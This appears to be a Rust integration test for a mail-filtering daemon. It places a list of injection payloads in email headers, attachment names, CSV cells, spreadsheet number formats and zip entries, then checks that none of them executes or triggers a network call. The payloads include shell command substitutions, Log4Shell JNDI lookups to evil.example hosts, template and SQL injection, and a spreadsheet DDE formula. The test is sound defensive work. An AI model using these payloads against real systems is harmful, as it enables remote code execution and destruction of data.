//! What would be code somewhere is text here, wherever it stands (ARC-02): in fields, names, cells, formats of numbers, entries of
//! archives. Nothing is run, nobody is called, and it arrives as it was.

use std::io::{Cursor, Write as _};

use data_encoding::BASE64;
use testkit::compare;
use testkit::daemon::{Daemon, Setup};
use testkit::sink::Sink;
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use crate::{ADDED, ALICE, BOB, POSTERN, SOON, dns, send_accepted};

/// For shells, templates, loggers, databases, spreadsheets, interpreters and printers. `MADE` is a file that none of them makes.
const CODES: [&str; 14] = [
    "$(touch MADE)",
    "`touch MADE`",
    "; touch MADE #",
    "| touch MADE",
    "${jndi:ldap://jndi.evil.example/a}",
    "${${lower:j}ndi:dns://deep.evil.example/a}",
    "{{7*7}}{% include 'MADE' %}",
    "<%= File.write('MADE', 1) %>",
    "#{File.write('MADE', 1)}",
    "'; DROP TABLE mails; --",
    "' OR '1'='1",
    "=cmd|' /C touch MADE'!A0",
    "[>0;system('touch MADE')]0",
    "%n%n%s%s __import__('os').system('touch MADE')",
];

fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in files {
        writer.start_file(*name, SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn xml(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;")
}

/// A workbook with it as the format of a number (CVE-2023-7101), a text, a name of a sheet, and in its properties.
fn workbook(code: &str) -> Vec<u8> {
    let main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let code = xml(code);
    let types = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" \
        ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>\
        <Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>";
    let relations = format!(
        "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" \
         Type=\"{rel}/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>"
    );
    let book = format!(
        "<?xml version=\"1.0\"?><workbook xmlns=\"{main}\" xmlns:r=\"{rel}\"><sheets><sheet name=\"{code}\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>"
    );
    let styles = format!(
        "<?xml version=\"1.0\"?><styleSheet xmlns=\"{main}\"><numFmts count=\"1\"><numFmt numFmtId=\"164\" formatCode=\"{code}\"/></numFmts></styleSheet>"
    );
    let sheet = format!(
        "<?xml version=\"1.0\"?><worksheet xmlns=\"{main}\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{code}</t></is></c></row>\
         </sheetData></worksheet>"
    );
    let core = format!("<?xml version=\"1.0\"?><coreProperties><title>{code}</title></coreProperties>");
    zip(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", relations.as_bytes()),
        ("xl/workbook.xml", book.as_bytes()),
        ("xl/styles.xml", styles.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
        ("docProps/core.xml", core.as_bytes()),
    ])
}

fn file(name: &str, bytes: &[u8]) -> String {
    let quoted = name.replace('\\', "\\\\").replace('"', "\\\"");
    format!(
        "--b\r\nContent-Type: application/octet-stream; x=\"{quoted}\"\r\nContent-Disposition: attachment; filename=\"{quoted}\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
        BASE64.encode(bytes)
    )
}

fn message(number: usize, code: &str) -> Vec<u8> {
    let quoted = code.replace('"', "\\\"");
    let parts = [
        file(&format!("{code}.txt"), code.as_bytes()),
        file("table.csv", format!("name;chairs\r\n'{code};20\r\n").as_bytes()),
        file("book.xlsx", &workbook(code)),
        file("entries.zip", &zip(&[(format!("{code}.txt").as_str(), code.as_bytes())])),
    ]
    .concat();
    format!(
        "From: \"{quoted}\" <{ALICE}>\r\nTo: \"{quoted}\" <{BOB}>\r\nSubject: {code}\r\nMessage-ID: <{number}@sender.example>\r\n\
         X-Mailer: {code}\r\nReferences: <{number}.{}@sender.example>\r\nComments: {code}\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=\"{quoted}\"\r\n\r\n{code}\r\n\
         --b\r\nContent-Type: text/html\r\n\r\n<p title='x'>{}</p>\r\n{parts}--b--\r\n",
        code.replace(|c: char| !c.is_ascii_alphanumeric(), "."),
        xml(code)
    )
    .into_bytes()
}

#[tokio::test(flavor = "multi_thread")]
async fn it_is_text_like_other_text() {
    let (dns, sink) = (dns().await, Sink::start().await);
    let daemon = Daemon::start(POSTERN, Setup::new(sink.address, "observe").with_dns(dns.address)).await;
    let made = daemon.folder().join("made");
    let codes: Vec<String> = CODES.iter().map(|code| code.replace("MADE", &made.display().to_string())).collect();
    for (number, code) in codes.iter().enumerate() {
        let sent = message(number, code);
        let reply = send_accepted(daemon.address(), ALICE, &[BOB], &sent).await;
        let received = sink.wait_for(number + 1, SOON).await;
        compare::assert_same(code, &sent, &received[number].message, &ADDED);
        let judged = daemon.json(&["trace", "show", reply.reference()]).await["judged"][0].clone();
        let reasons = judged["reasons"].to_string();
        assert!(!reasons.contains("unscannable"), "{code}: {reasons}");
        // A search for it finds it as it stands.
        let found = daemon.rows(&["trace", "search", "--subject", code]).await;
        assert_eq!(found.len(), 1, "{code}: {found:?}");
        assert_eq!(found[0]["subject"].as_str(), Some(code.trim()), "{found:?}");
    }
    daemon.quiet().await;
    assert!(!made.exists(), "somebody ran it");
    let called: Vec<String> = dns.names_asked().into_iter().filter(|name| name.contains("evil.example")).collect();
    assert!(called.is_empty(), "somebody was called: {called:?}");
    daemon.assert_balanced().await;
}
